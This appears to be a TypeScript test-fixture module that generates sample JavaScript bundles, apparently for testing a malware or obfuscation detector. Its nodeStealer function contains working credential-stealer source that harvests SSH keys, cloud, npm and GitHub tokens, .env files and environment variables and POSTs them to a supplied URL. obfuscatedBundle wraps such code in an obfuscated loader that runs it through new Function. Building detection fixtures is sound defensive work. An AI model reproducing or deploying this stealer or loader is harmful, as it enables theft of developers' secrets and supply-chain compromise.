// Owns: large JavaScript for fixtures: what an obfuscator leaves behind, and what an honest bundler does.
// May import: encoders.ts. Deterministic. Start here: obfuscatedBundle, minifiedBundle.
import { base64, blob } from './encoders.ts';

/** A stealer for Node or Bun after an obfuscator: a rotated table of encoded strings, `_0x` names, decoys up to the size wanted. */
export function obfuscatedBundle(plaintext: string, sizeBytes: number): string {
  const words = plaintext.match(/[\s\S]{1,24}/g) ?? [];
  const table = words.map((word) => `'${base64(word).replaceAll('=', '')}'`).join(',');
  const head = `(function(_0x4f1a,_0x2b7c){const _0x1d3e=_0x5a21;while(!![]){try{if(parseInt(_0x1d3e(0x1f4))/0x1===_0x2b7c)break;else _0x4f1a.push(_0x4f1a.shift());}catch(_0x9c){_0x4f1a.push(_0x4f1a.shift());}}}(_0x3c9d,0x7a1b2));
function _0x3c9d(){const _0x6e=[${table}];_0x3c9d=function(){return _0x6e;};return _0x3c9d();}
function _0x5a21(_0x1,_0x2){const _0x3=_0x3c9d();_0x1=_0x1-0x1f4;return Buffer.from(_0x3[_0x1],'base64').toString();}
const _0xrun=[];for(let _0xi=0x1f4;_0xi<0x1f4+${words.length};_0xi++)_0xrun.push(_0x5a21(_0xi));
(new Function('require','process',_0xrun.join('')))(require,process);
`;
  return head + decoys('obfuscated', sizeBytes - head.length, (name, text) => `const _0x${name}=['${text}'];`);
}

/** Code of a front end after a bundler: short names, no secrets, a source map comment. */
export function minifiedBundle(name: string, sizeBytes: number): string {
  const head = `/*! For license information please see ${name}.LICENSE.txt */\n(self.webpackChunk_${name}=self.webpackChunk_${name}||[]).push([[179],{`;
  const body = decoys(name, sizeBytes, (key, text) => {
    const label = text
      .slice(0, 12)
      .toLowerCase()
      .replace(/[^a-z]/g, 'x');
    const id = Number.parseInt(key.slice(0, 4), 16);
    return `${id}:(e,t,n)=>{"use strict";n.d(t,{A:()=>r});var a=n(${id % 977});const r=e=>{const{label:t="${label}",value:o}=e;return a.createElement("div",{className:"jp-${label}",title:t,onClick:()=>o&&o.select(${id % 13})},t)}},`;
  });
  return `${head}${body}}]);\n//# sourceMappingURL=${name}.js.map\n`;
}

/** Pieces made by `render` until the size is reached. */
function decoys(seed: string, sizeBytes: number, render: (name: string, text: string) => string): string {
  const bytes = blob(seed, Math.max(64, sizeBytes));
  const pieces: string[] = [];
  for (let size = 0, at = 0; size < sizeBytes; at += 96) {
    const part = bytes.subarray(at % (bytes.length - 48), (at % (bytes.length - 48)) + 48);
    const piece = render(part.toString('hex', 0, 6), part.toString('base64'));
    pieces.push(piece);
    size += piece.length;
  }
  return pieces.join('\n');
}

/** What the bundle of a worm says before it is obfuscated. */
export function nodeStealer(upload: string): string {
  return `const fs=require('fs'),os=require('os'),path=require('path'),cp=require('child_process'),https=require('https');
const wanted=['.npmrc','.pypirc','.ssh/id_rsa','.ssh/id_ed25519','.aws/credentials','.config/gcloud/application_default_credentials.json','.git-credentials','.config/assistant.json','.env'];
const loot={env:process.env,host:os.hostname(),user:os.userInfo().username,files:{}};
for(const name of wanted){try{loot.files[name]=fs.readFileSync(path.join(os.homedir(),name),'utf8')}catch{}}
try{loot.gh=cp.execSync('gh auth token').toString()}catch{}
try{loot.scan=cp.execSync('trufflehog filesystem '+os.homedir()+' --json').toString()}catch{}
const request=https.request('${upload}',{method:'POST',headers:{'content-type':'application/json'}});
request.end(JSON.stringify(loot));
`;
}
